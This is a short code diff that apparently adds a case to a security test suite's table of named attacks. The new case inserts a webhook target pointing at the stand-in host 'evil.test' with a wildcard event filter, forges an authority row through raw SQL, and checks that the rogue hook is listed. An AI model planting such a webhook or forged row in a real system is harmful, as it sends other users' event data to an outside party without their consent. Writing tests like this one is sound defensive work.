@@ -144,6 +144,19 @@ const attacks: Readonly<Record<string, Attack>> = {
         'evil',
       ]);
   },
+
+  'another hears of events': async ({ server }) => {
+    const { rooms } = server;
+    run(
+      server,
+      `INSERT INTO event_target VALUES ('webhook-evil', 'https://evil.test/', '*', 1, NULL, NULL)`,
+    );
+    run(
+      server,
+      `INSERT INTO authority_set VALUES ('event-targets', '', '', '', 1, 1, zeroblob(33), 0)`,
+    );
+    return async () => assert.equal((await rooms.events.list())[0]?.id, 'webhook-evil');
+  },
 };
 
 const gained = 'what it was after';
